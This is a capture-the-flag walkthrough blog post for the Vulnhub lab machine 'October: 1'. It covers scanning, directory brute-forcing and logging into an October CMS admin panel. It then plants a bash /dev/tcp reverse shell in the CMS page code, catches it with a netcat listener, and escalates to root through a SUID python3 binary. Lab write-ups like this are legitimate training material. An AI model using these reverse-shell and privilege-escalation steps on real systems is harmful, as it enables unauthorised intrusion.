CyberSecurity Ninjas 网络空间安全忍者

View on GitHub
Home Projects Articles Apophthegm About

It’s October: 1

The virtual machine is released on April 8, 2020 at Vulnhub. The goal is to get the root flag of the target. However, it encourages you to use the functionalities rather than vulnerabilities of the target. It is designed to test your penetration testing skills and concepts.

Available on : Vulnhub
Difficulty : Easy/Medium Level
Format : OVA (Virtualbox)

Kali Linux 2020.1b is used for the testing.

The VM shows the IP address of the box when you boot it up. However, you can confirm the IP address on your own.sudo netdiscover -r

The target’s IP address is

sudo nmap -Pn -p- -sS -sV -A

The screenshot of is :

The screenshot of is :

Inspect the source code of port 8080 and find mynote.txt on the page. Let’s access the mynote.txt. It shows the username and password. However, we do not know the admin page yet. It is suspected to be on port 80 instead of 8080.

We need to find out the admin page of the port 80 by gobuster and set the threads to 5 or errors may beshown.

sudo gobuster dir -u -w /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt -x php,html,txt -t5

When access backend directory, the admin panel page is shown.

Log in with username admin and password adminadmin2.

The version is build 465 and it is the current version as at the time of this writing. The is no known vulnerability found so far.

After reading the documentation of the October CMS, it is suspected that it is desgined to run JavaScript by default. Let’s confirm it!


It is confirmed that it can run JavasScript bydefault. Let’s use onStart() function to execute the bash shell.

function onstart() {
    exec("/bin/bash -c 'bash -i >& /dev/tcp/ 0>&1'");

The netcat listener at port 4444 on Kali Linux.

nc -lvp 4444

After saved the page and Preview it. The shell is ported accordingly.

The current user is www-data. We need to find a way for privilege escalation.

find / -perm -u=s -type f 2>/dev/null

The output shows that python3.7 is in sticky bit. We try to privilege escalate it by using bash pipelines in Python 3.

python3 -c 'import os; os.execl("/bin/bash", "bash","-p")'

As a result, we geteuid=0(root) after running the above command.

We then go to the /root and display the proof.txt. Bingo! Root is dancing!

Final thought

This is a typical Capture The Flag (CTF) game, however, it does not use the vulnerability to exploit it. It is a very interesting boxindeed!

April 19, 2020, HongKong, China

Home Projects Articles Apophthegm About